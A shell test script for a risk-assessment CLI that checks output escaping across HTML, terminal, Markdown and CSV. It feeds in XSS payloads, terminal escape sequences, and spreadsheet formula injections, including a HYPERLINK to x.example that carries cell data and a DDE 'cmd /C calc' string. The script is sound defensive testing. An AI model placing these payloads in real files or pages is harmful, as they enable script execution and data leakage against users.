#!/bin/sh
# escaping.sh -- text from input files never becomes markup in an HTML
# output: a service whose name, owner and evidence carry HTML is rendered in
# the plan report, the workshop pack and the fleet summary with that HTML
# escaped (doc/security.md).
. "$top_srcdir/tests/cli/lib.sh"

svc="$work/svc.json"
ex_small="$top_srcdir/datasets/examples/small-saas.json"
sed -e 's|"name": "Tiny Forms (small form-builder SaaS)"|"name": "Tiny <script>alert(\\"name\\")</script> Forms"|' \
    -e 's|"owner": {"name": "Aiko Kobayashi"|"owner": {"name": "<img src=x onerror=alert(1)>"|' \
    -e "s|\"evidence\": \"MFA for the founders' admin accounts only\"|\"evidence\": \"\\\\\"><svg onload=alert(2)> MFA \& more\"|" \
    "$top_srcdir/datasets/examples/small-saas.json" >"$svc"
expect_in "$svc" '<script>alert' "the service carries markup"
expect_in "$svc" '<svg onload' "the evidence carries markup"

# check_escaped FILE WHAT: none of the markup came through; the name did, escaped.
check_escaped() {
  expect_not_in "$1" '<script>alert' "$2: no <script> from the input"
  expect_not_in "$1" '<img src=x' "$2: no <img> from the input"
  expect_not_in "$1" '<svg onload' "$2: no <svg> from the input"
  expect_in "$1" '&lt;script&gt;alert' "$2: the name, escaped"
}

expect_exit 0 "plan report" -- "$CLOUDRISK" plan "$svc" --trials 2000 --threads 1 \
  --start 2025-04-01 --format html --out "$work/plan.html"
check_escaped "$work/plan.html" "plan report"

expect_exit 0 "workshop pack" -- "$CLOUDRISK" workshop pack "$svc" --out "$work/pack.html"
check_escaped "$work/pack.html" "workshop pack"
expect_in "$work/pack.html" '&lt;img src=x' "workshop pack: the owner, escaped"

mkdir "$work/fleet" "$work/summary"
cp "$svc" "$work/fleet/tiny-forms.json"
expect_exit 0 "batch with a summary" -- "$CLOUDRISK" batch "$work/fleet" --db "$work/r.db" \
  --trials 1000 --jobs 1 --quiet --time 2025-04-01T00:00:00Z --summary-dir "$work/summary"
check_escaped "$work/summary/fleet-summary.html" "fleet summary"

# Terminal and Markdown: control characters from inputs (ESC, BEL) are made
# visible, never sent; Markdown from inputs is escaped the same way by assess
# and plan (no raw <iframe>, no javascript: link).
ctl="$work/controls.json"
sed -e 's|"name": "Tiny Forms (small form-builder SaaS)"|"name": "Tiny\\u001b[2J\\u001b]0;pwned\\u0007 <iframe src=x></iframe> [click](javascript:alert(1)) Forms"|' \
    -e 's|"owner": {"name": "Aiko Kobayashi"|"owner": {"name": "Aiko\\u001b[31m\\u0085red"|' \
    "$top_srcdir/datasets/examples/small-saas.json" >"$ctl"
expect_in "$ctl" 'u001b[2J' "the service carries control characters"
esc=$(printf '\033')
bel=$(printf '\007')
no_controls() {
  if grep -q "[$esc$bel]" "$1" || LC_ALL=C grep -q "$(printf '\302\205')" "$1"; then
    bad "$2: a control character reached the output"
  else
    ok
  fi
}
expect_exit 0 "assess as text" -- "$CLOUDRISK" assess "$ctl" --out "$work/a.txt"
no_controls "$work/a.txt" "assess text"
expect_in "$work/a.txt" 'Tiny\x1B[2J' "assess text: ESC shown as \\x1B"
expect_in "$work/a.txt" 'Aiko\x1B[31m\u0085red' "assess text: the owner's escapes"
for kind in assess plan; do
  if [ "$kind" = plan ]; then
    expect_exit 0 "plan as Markdown" -- "$CLOUDRISK" plan "$ctl" --trials 2000 --threads 1 \
      --start 2025-04-01 --format md --out "$work/$kind.md"
  else
    expect_exit 0 "assess as Markdown" -- "$CLOUDRISK" assess "$ctl" --format md --out "$work/$kind.md"
  fi
  no_controls "$work/$kind.md" "$kind Markdown"
  expect_not_in "$work/$kind.md" '<iframe' "$kind Markdown: no raw <iframe>"
  expect_not_in "$work/$kind.md" '[click](javascript' "$kind Markdown: no javascript: link"
  expect_in "$work/$kind.md" '&lt;iframe src=x&gt;' "$kind Markdown: the <iframe>, escaped"
  expect_in "$work/$kind.md" '\[click\](javascript:alert(1))' "$kind Markdown: the link, escaped"
done
# An error message quoting input shows its control characters too.
sed -e 's|"status": "implemented"|"status": "\\u001b[31mimplemented\\u0007"|' "$ex_small" >"$work/bad-status.json"
expect_exit 3 "a status with control characters" -- "$CLOUDRISK" assess "$work/bad-status.json"
no_controls "$work/err" "the error message"
expect_in "$work/err" '\x1B[31mimplemented\x07' "the error message shows the escapes"

# CSV: a cell a spreadsheet would run as a formula is written after a single
# quote (OWASP's rule), whatever the CSV output; plain numbers are not.
formula="$work/formula.json"
sed -e 's|"name": "Tiny Forms (small form-builder SaaS)"|"name": "=HYPERLINK(\\"http://x.example/\\"\&A1)"|' \
    -e 's|"owner": {"name": "Aiko Kobayashi"|"owner": {"name": "@SUM(1+1)*cmd"|' \
    -e "s|\"evidence\": \"MFA for the founders' admin accounts only\"|\"evidence\": \"-2+3+cmd\|' /C calc'!A0\"|" \
    "$top_srcdir/datasets/examples/small-saas.json" >"$formula"
expect_in "$formula" '=HYPERLINK' "the service carries a formula"
expect_exit 0 "assess as CSV" -- "$CLOUDRISK" assess "$formula" --format csv --out "$work/assess.csv"
expect_exit 0 "checklist as CSV" -- "$CLOUDRISK" checklist --service "$formula" --out "$work/checklist.csv"
expect_exit 0 "plan as CSV" -- "$CLOUDRISK" plan "$formula" --trials 2000 --threads 1 \
  --start 2025-04-01 --format csv --out "$work/plan.csv"
for f in assess checklist plan; do
  if grep -q '^=\|,=\|^"=\|,"=\|^@\|,@\|^"@\|,"@\|,-2+\|,"-2+' "$work/$f.csv"; then
    bad "$f.csv: a cell begins with a formula"
    grep -n '=HYPERLINK\|@SUM\|-2+3' "$work/$f.csv" | head -3 >&2
  else
    ok
  fi
done
expect_in "$work/checklist.csv" "'-2+3+cmd" "checklist: the evidence, neutralised"
finish
